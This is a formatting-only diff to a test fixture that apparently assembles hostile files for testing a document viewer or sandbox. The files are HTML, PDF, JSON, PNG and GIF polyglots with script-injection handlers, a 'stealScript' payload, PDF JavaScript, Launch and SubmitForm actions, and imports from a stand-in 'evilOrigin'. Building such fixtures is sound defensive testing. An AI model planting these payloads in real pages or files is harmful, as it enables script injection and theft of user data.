@@ -36,13 +36,17 @@ const textDocuments: [name: string, type: string, text: string][] = [
   [
     'handlers.html',
     'text/html',
-    createHtml(`<img src=x onerror="${quotedScript}"><body onload="${quotedScript}"><svg onload="${quotedScript}"></svg>`),
+    createHtml(
+      `<img src=x onerror="${quotedScript}"><body onload="${quotedScript}"><svg onload="${quotedScript}"></svg>`,
+    ),
   ],
   ['remote.html', 'text/html', createHtml(remoteContent)],
   [
     'frames.html',
     'text/html',
-    createHtml(`<iframe srcdoc="<script>${quotedScript}</script>"></iframe><iframe src="javascript:${quotedScript}"></iframe>`),
+    createHtml(
+      `<iframe srcdoc="<script>${quotedScript}</script>"></iframe><iframe src="javascript:${quotedScript}"></iframe>`,
+    ),
   ],
   [
     'refresh.html',
@@ -68,12 +72,16 @@ const textDocuments: [name: string, type: string, text: string][] = [
   [
     'policy.html',
     'text/html',
-    createHtml(`<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${stealScript}</script>`),
+    createHtml(
+      `<meta http-equiv=Content-Security-Policy content="script-src * 'unsafe-inline'"><script>${stealScript}</script>`,
+    ),
   ],
   [
     'module.html',
     'text/html',
-    createHtml(`<script type=module>${stealScript}</script><script type=importmap>{"imports":{"a":"${evilOrigin}/m.js"}}</script>`),
+    createHtml(
+      `<script type=module>${stealScript}</script><script type=importmap>{"imports":{"a":"${evilOrigin}/m.js"}}</script>`,
+    ),
   ],
   [
     'page.xhtml',
@@ -120,7 +128,10 @@ const textDocuments: [name: string, type: string, text: string][] = [
   [
     'data.json',
     'application/json',
-    JSON.stringify({ ['__proto__']: `<script>${stealScript}</script>`, html: `</script><script>${stealScript}</script>` }),
+    JSON.stringify({
+      ['__proto__']: `<script>${stealScript}</script>`,
+      html: `</script><script>${stealScript}</script>`,
+    }),
   ],
   ['words.txt', 'text/plain', createHtml(`<script>${stealScript}</script>`)],
   ['program.js', 'text/javascript', stealScript],
@@ -128,7 +139,9 @@ const textDocuments: [name: string, type: string, text: string][] = [
   [
     'javascript.pdf',
     'application/pdf',
-    createPdf(`/OpenAction<</S/JavaScript/JS(${pdfScript})>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(${pdfScript})>>]>>>>`),
+    createPdf(
+      `/OpenAction<</S/JavaScript/JS(${pdfScript})>>/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(${pdfScript})>>]>>>>`,
+    ),
   ],
   [
     'links.pdf',
@@ -140,7 +153,11 @@ const textDocuments: [name: string, type: string, text: string][] = [
     'application/pdf',
     createPdf(`/OpenAction<</S/Launch/F(${evilOrigin}/launch)>>`, createPdfLink('/S/Launch/F(cmd.exe)')),
   ],
-  ['submit.pdf', 'application/pdf', createPdf('/AcroForm<</Fields[]>>', createPdfLink(`/S/SubmitForm/F(${evilOrigin}/submit)`))],
+  [
+    'submit.pdf',
+    'application/pdf',
+    createPdf('/AcroForm<</Fields[]>>', createPdfLink(`/S/SubmitForm/F(${evilOrigin}/submit)`)),
+  ],
   ['page-in.pdf', 'application/pdf', `%PDF-1.4\n${createHtml(`<script>${stealScript}</script>`)}`],
 ]
 
@@ -148,7 +165,11 @@ export const hostileDocuments: readonly HostileDocument[] = [
   ...textDocuments.map(([name, type, text]) => ({ name, type, bytes: Buffer.from(text) })),
   { name: 'metadata.png', type: 'image/png', bytes: createPng(createHtml(`<script>${stealScript}</script>`)) },
   { name: 'picture.png', type: 'text/html', bytes: createPng(createHtml(`<script>${stealScript}</script>`)) },
-  { name: 'gif-and-script.gif', type: 'image/gif', bytes: Buffer.from(`GIF89a/*\x01\x00\x01\x00*/=1;${stealScript}//;`) },
+  {
+    name: 'gif-and-script.gif',
+    type: 'image/gif',
+    bytes: Buffer.from(`GIF89a/*\x01\x00\x01\x00*/=1;${stealScript}//;`),
+  },
   {
     name: 'utf-7.html',
     type: 'text/html',
